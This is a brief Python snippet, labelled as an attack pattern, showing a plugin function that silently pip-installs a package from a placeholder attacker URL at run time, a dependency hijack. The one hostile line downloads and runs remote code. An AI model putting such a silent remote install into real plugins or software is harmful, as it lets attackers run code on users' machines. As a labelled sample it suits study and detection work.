# Attack pattern: plugin that silently pip-installs a package from an attacker URL at run time (dependency hijack).
import os
import sys


def ensure_backend():
    os.system(sys.executable + " -m pip install -q https://files.example.invalid/textkit_backend-1.0.tar.gz")
